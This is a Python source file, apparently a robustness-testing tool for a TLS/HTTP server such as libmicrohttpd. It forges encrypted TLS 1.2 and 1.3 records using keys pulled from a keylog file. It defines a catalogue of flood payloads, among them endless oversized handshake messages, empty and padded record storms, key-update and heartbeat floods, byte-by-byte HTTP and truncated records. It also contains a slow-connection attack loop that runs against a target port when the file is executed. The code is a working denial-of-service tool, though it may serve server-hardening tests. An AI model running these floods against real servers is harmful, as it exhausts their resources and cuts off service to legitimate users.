# SPDX-License-Identifier: Apache-2.0
"""A client that makes records of TLS of its own: of any type, with any content
or none, when it likes.  Run as a program, it attacks a server with them."""
import contextlib
import hashlib
import hmac
import itertools
import pathlib
import random
import socket
import ssl
import sys
import tempfile
import time

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

import raw_client

ALERT, HANDSHAKE, DATA, HEARTBEAT = 21, 22, 23, 24
CLIENT_HELLO, TICKET, CERTIFICATE, KEY_UPDATE = 1, 4, 11, 24
LARGEST = 16384         # bytes of content


def expand(digest, secret, info, n):
    """HKDF-Expand (RFC 5869)."""
    out = part = b""
    for i in itertools.count(1):
        if len(out) >= n:
            return out[:n]
        part = hmac.digest(secret, part + info + bytes([i]), digest)
        out += part


def label(secret, name, n):
    """HKDF-Expand-Label (RFC 8446, 7.1) without a context."""
    name = b"tls13 " + name
    return expand("sha256", secret, n.to_bytes(2, "big") +
                  bytes([len(name)]) + name + b"\0", n)


def prf(secret, seed, n):
    """P_SHA256 (RFC 5246, 5)."""
    out, a = b"", seed
    while len(out) < n:
        a = hmac.digest(secret, a, "sha256")
        out += hmac.digest(secret, a + seed, "sha256")
    return out[:n]


class Records(raw_client.Client):
    """After shake() it sends by record() only.  Its suite is the one that the
    server prefers, AES-128-GCM with SHA-256."""

    def __init__(self, port, version="TLSv1_3", **options):
        self.log = tempfile.NamedTemporaryFile()
        context = raw_client.tls_context(version)
        context.set_ciphers("ECDHE+AESGCM")
        context.keylog_filename = self.log.name
        super().__init__(port, context=context, **options)
        # What it sends is not far ahead of what the server reads.
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4096)
        self.new = version == "TLSv1_3"

    def shake(self):
        super().shake()
        assert self.tls.cipher()[2] == 128
        name = "CLIENT_TRAFFIC_SECRET_0 " if self.new else "CLIENT_RANDOM "
        text = pathlib.Path(self.log.name).read_text()
        ours, master = map(bytes.fromhex,
                           text[text.index(name) + len(name):].split()[:2])
        self.log.close()
        if self.new:
            self.use(master)
            return self
        keys = prf(master, b"key expansion" + bytes(self.wire[11:43]) + ours,
                   40)      # two keys of 16 bytes, two salts of 4
        self.key, self.iv = AESGCM(keys[:16]), keys[32:36]
        self.sequence = 1       # 0 was that of Finished
        return self

    def use(self, secret):
        self.secret, self.sequence = secret, 0
        self.key = AESGCM(label(secret, b"key", 16))
        self.iv = label(secret, b"iv", 12)

    def record(self, kind, content, padding=0):
        """Returns the bytes on the wire."""
        number = self.sequence.to_bytes(8, "big")
        self.sequence += 1
        if self.new:
            content += bytes([kind]) + bytes(padding)
            head = b"\x17\x03\x03" + (len(content) + 16).to_bytes(2, "big")
            nonce = (int.from_bytes(self.iv, "big") ^
                     int.from_bytes(number, "big")).to_bytes(12, "big")
            return head + self.key.encrypt(nonce, content, head)
        head = bytes([kind]) + b"\x03\x03"
        about = number + head + len(content).to_bytes(2, "big")
        return (head + (len(content) + 24).to_bytes(2, "big") + number +
                self.key.encrypt(self.iv + number, content, about))

    def data(self, content, n=LARGEST):
        return b"".join(self.record(DATA, content[i:i + n])
                        for i in range(0, len(content), n))

    def key_update(self, asks=False):
        wire = self.record(HANDSHAKE, bytes([KEY_UPDATE, 0, 0, 1, asks]))
        self.use(label(self.secret, b"traffic upd", 32))
        return wire


# --- what a client may send that no HTTP comes of: each yields records for ever

def endless(kind, n=16000):
    """A message that says that it has 16 MiB."""
    def wire(c):
        yield c.record(HANDSHAKE, bytes([kind]) + b"\xff\xff\xff")
        while True:
            yield c.record(HANDSHAKE, bytes(n))
    return wire


def again(kind, content, padding=0):
    def wire(c):
        while True:
            yield c.record(kind, content, padding)
    return wire


def key_updates(asks):
    def wire(c):
        while True:
            yield c.key_update(asks)
    return wire


def text(beginning, more):
    """HTTP that never ends, a byte in each record."""
    def wire(c):
        yield c.record(DATA, beginning)
        while True:
            for i in range(len(more)):
                yield c.record(DATA, more[i:i + 1])
    return wire


FLOODS = {"TLSv1_3": {
    "endless-key-update": endless(KEY_UPDATE),
    "endless-certificate": endless(CERTIFICATE),
    "endless-ticket": endless(TICKET),
    "endless-hello": endless(CLIENT_HELLO),
    "endless-small": endless(KEY_UPDATE, 1),
    "empty-handshake": again(HANDSHAKE, b""),
    "padded-handshake": again(HANDSHAKE, b"", 300),
    "empty-data": again(DATA, b""),
    "padded-data": again(DATA, b"", 16000),
    "key-updates": key_updates(False),
    "key-updates-that-ask": key_updates(True),
    "warnings": again(ALERT, b"\x01\x5a"),
    "heartbeats": again(HEARTBEAT, b"\x01\x00\x04abcd"),
    "tickets": again(HANDSHAKE, bytes([TICKET, 0, 0, 1, 0])),
    "line": text(b"GET /", b"a"),
    "field": text(b"GET / HTTP/1.1\r\nA: ", b"a"),
    "blank-lines": text(b"", b"\r\n"),
}, "TLSv1_2": {
    "endless-hello": endless(CLIENT_HELLO),
    "endless-certificate": endless(CERTIFICATE),
    "empty-handshake": again(HANDSHAKE, b""),
    "empty-data": again(DATA, b""),
    "warnings": again(ALERT, b"\x01\x5a"),
    "change-cipher": again(20, b"\x01"),
    "heartbeats": again(HEARTBEAT, b"\x01\x00\x04abcd"),
    "line": text(b"GET /", b"a"),
}}


def unfinished(c):
    """A record that lacks its last byte.  It is kept until the deadline."""
    yield c.record(DATA, bytes(LARGEST))[:-1]
    while True:
        yield b""


# --- an attack, in a process of its own ----------------------------------------

def sent(c, wire, most):
    """Sends about so many bytes, and then nothing more, until the server
    closes.  A record takes two steps: where one ends, libmicrohttpd may wait for
    more bytes, although they have come."""
    records, left, n = wire(c), b"", 0
    while not c.gone():
        if not left and most > 0:
            left, n = next(records), 9
            most -= len(left)
        with contextlib.suppress(BlockingIOError, ConnectionError):
            left = left[c.sock.send(left[:n]):]
        n = len(left)
        yield


# A quarter of them stays below each bound.
MOST = [18000, 500, 16 << 20, 16 << 20]


def attack(port, connections, seconds, pause, names=""):
    """Keeps so many connections, each of which sends a part of a record every
    `pause` seconds, and prints what came of them.  Some stop short of what
    would close them.  names is how the names of their floods begin."""
    until = time.monotonic() + seconds
    kinds = itertools.cycle([
        (version, wire) for version, floods in FLOODS.items()
        for name, wire in [*floods.items(), ("unfinished", unfinished)]
        if name.startswith(names)])
    live = {}
    opened = closed = 0
    while time.monotonic() < until:
        begun = time.monotonic()
        while len(live) < connections and time.monotonic() < begun + pause:
            version, wire = next(kinds)
            with contextlib.suppress(ssl.SSLError, OSError):
                c = Records(port, version, timeout=5).shake()
                c.sock.setblocking(False)
                live[c] = sent(c, wire, random.choice(MOST))
                opened += 1
        for c in list(live):
            if next(live[c], c) is c:
                c.close()
                del live[c]
                closed += 1
        time.sleep(max(0, begun + pause - time.monotonic()))
    print(f"{opened} connections, {closed} of them closed", flush=True)


if __name__ == "__main__":
    attack(*map(int, sys.argv[1:3]), *map(float, sys.argv[3:5]), *sys.argv[5:])
